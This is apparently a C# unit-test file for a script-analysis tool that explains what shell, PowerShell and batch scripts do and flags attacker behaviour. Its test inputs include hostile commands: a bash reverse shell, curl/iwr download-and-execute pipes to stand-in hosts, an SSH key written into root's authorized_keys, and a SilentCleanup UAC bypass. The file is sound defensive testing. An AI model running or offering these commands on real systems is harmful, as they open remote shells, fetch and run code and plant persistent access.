using System.Text;
using Redoubt.Scripts.Behaviours;
using Redoubt.Scripts.Tests.Behaviours;

namespace Redoubt.Scripts.Tests.Explaining;

/// <summary>What is told stands in the script, has a place, and is short.</summary>
public sealed class ExplanationTests
{
    [Fact]
    public void Every_sentence_has_a_place_in_a_layer()
    {
        foreach (var report in Reports())
        {
            foreach (var where in report.Steps.Select(step => step.Where).Concat(report.Summary.Select(sentence => sentence.Where)))
            {
                where.ShouldNotBeEmpty();
                where.ShouldAllBe(place => place.Layer >= 1 && place.Layer <= report.Layers.Count && place.Line >= 1 && place.LastLine >= place.Line);
            }

            report.Summary.ShouldNotBeEmpty();
            report.Summary.Sum(sentence => sentence.Text.Split(' ').Length).ShouldBeLessThanOrEqualTo(60);
            report.Steps.Count.ShouldBeLessThanOrEqualTo(40);
            report.Summary[0].Text.ShouldNotContain("is safe");
        }
    }

    [Fact]
    public void Every_value_that_is_told_stands_in_a_layer()
    {
        foreach (var report in Reports())
        {
            // Values are what no phrase has: addresses, paths, keys.
            foreach (var word in report.Steps.SelectMany(step => step.Text.Split(' ')).Select(word => word.Trim('.', ',', '(', ')', '"', '…')).Where(word => word.Contains("://") || word.Contains('\\') || (word.Contains('/') && word.Length > 8)))
                report.Layers.Any(layer => layer.Original.Contains(word, StringComparison.OrdinalIgnoreCase) || layer.Cleared.Contains(word, StringComparison.OrdinalIgnoreCase) || layer.Cleared.Replace("HKEY_CURRENT_USER", "HKCU", StringComparison.Ordinal).Contains(word, StringComparison.OrdinalIgnoreCase)).ShouldBeTrue(word);
        }
    }

    [Fact]
    public void Every_value_of_a_finding_stands_whole_in_a_layer()
    {
        var wrong = new List<string>();
        foreach (var report in Reports())
        {
            foreach (var finding in report.Findings)
            {
                var phrase = BehaviourCatalogue.Standard.Behaviours.First(one => one.Name == finding.Behaviour).Phrase;
                foreach (var value in phrase.Values(finding.Text).Where(value => !Stands(report, value) && !(finding.Behaviour == "decode-text" && (Stands(report, Convert.ToBase64String(Encoding.UTF8.GetBytes(value)).TrimEnd('=')) || Stands(report, Convert.ToBase64String(Encoding.Unicode.GetBytes(value)).TrimEnd('='))))))
                    wrong.Add($"{finding.Behaviour}: {value} in {finding.Text}");
            }
        }

        wrong.ShouldBeEmpty(string.Join('\n', wrong.Distinct()));
    }

    [Theory]
    [InlineData("if ($x -ge 3) { Remove-Item a.txt }", ScriptLanguage.PowerShell, "if $x -ge 3")]
    [InlineData("if [ -f /etc/x ]; then :; else rm /tmp/a; fi", ScriptLanguage.Bash, "if not [ -f /etc/x ]")]
    [InlineData("if exist C:\\Temp\\a del C:\\Temp\\a", ScriptLanguage.Batch, "if exist C:\\Temp\\a")]
    [InlineData("(crontab -l; echo '*/5 * * * * rm /tmp/a') | crontab -", ScriptLanguage.Bash, "at the times */5 * * * *")]
    public void Conditions_read_after_only(string text, ScriptLanguage language, string condition) =>
        ScriptAnalyzer.Analyze(text, new ScriptHints(language)).Steps.Select(step => step.Condition).ShouldContain(condition);

    [Theory]
    [InlineData("echo aHR0cDovL29uZS5leGFtcGxlLm5ldC94 | base64 -d | xargs curl -s", ScriptLanguage.Bash, "Decodes a hidden text: http://one.example.net/x.")]
    [InlineData("$u = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aHR0cDovL29uZS5leGFtcGxlLm5ldC94')); iwr $u", ScriptLanguage.PowerShell, "Decodes a hidden text: http://one.example.net/x.")]
    [InlineData("powershell -enc RwBlAHQALQBEAGEAdABlAA==", ScriptLanguage.Batch, "Unpacks a base64 PowerShell command (8 characters) and runs it.")]
    [InlineData("wget -q http://one.example.net/x -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x", ScriptLanguage.Bash, "Runs /tmp/.x, which it downloaded.")]
    [InlineData("echo c3NoLXJzYSBBQUFB | base64 -d >> /root/.ssh/authorized_keys", ScriptLanguage.Bash, "Adds a key for signing in over SSH later.")]
    [InlineData("curl -A 'Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko' http://one.example.net/", ScriptLanguage.Bash, "Talks to one.example.net over the web.")]
    [InlineData("$w = New-Object Net.WebClient; $w.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko')", ScriptLanguage.PowerShell, "Calls itself \"Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko\" towards web servers.")]
    public void Steps_say_what_is_known(string text, ScriptLanguage language, string sentence) =>
        ScriptAnalyzer.Analyze(text, new ScriptHints(language)).Steps.Select(step => step.Text).ShouldContain(sentence);

    [Fact]
    public void The_worst_is_told_with_the_verdict_and_by_its_name()
    {
        var report = ScriptAnalyzer.Analyze("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", new ScriptHints(ScriptLanguage.Bash));
        report.Summary[0].Text.ShouldStartWith("This shell script does what attackers do: it gives another computer a command shell over the network");
        report.Verdict.Reasons.Select(reason => reason.Text).ShouldContain("Hardly any ordinary script gives another computer a command shell over the network.");
    }

    [Theory]
    [InlineData("curl -fsSL http://198.51.100.7/x.sh | sh", ScriptLanguage.Bash, "T1048.003")]
    [InlineData("powershell -c \"iwr http://198.51.100.7/x.ps1 | iex\"", ScriptLanguage.Batch, "T1202")]
    [InlineData("Start-ScheduledTask -TaskPath '\\Microsoft\\Windows\\DiskCleanup\\' -TaskName SilentCleanup", ScriptLanguage.PowerShell, "T1548.002")]
    public void What_is_not_done_is_not_told(string text, ScriptLanguage language, string technique) =>
        ScriptAnalyzer.Analyze(text, new ScriptHints(language)).Techniques.Select(one => one.V18).ShouldNotContain(technique);

    [Fact]
    public void A_long_script_is_told_in_few_steps()
    {
        var lines = Enumerable.Range(1, 300).Select(number => number % 3 == 0 ? $"copy a{number}.txt b{number}.txt" : $"tool{number} one");
        ScriptAnalyzer.Analyze(string.Join('\n', lines), new ScriptHints(ScriptLanguage.Batch)).Steps.Count.ShouldBeLessThanOrEqualTo(40);
    }

    private static bool Stands(ScriptReport report, string value) => report.Layers.Any(layer => layer.Original.Contains(value, StringComparison.OrdinalIgnoreCase) || layer.Cleared.Contains(value, StringComparison.OrdinalIgnoreCase));

    private static IEnumerable<ScriptReport> Reports() => BehaviourExamples.All().Select(example => ScriptAnalyzer.Analyze(example.Text, new ScriptHints(example.Language)));
}
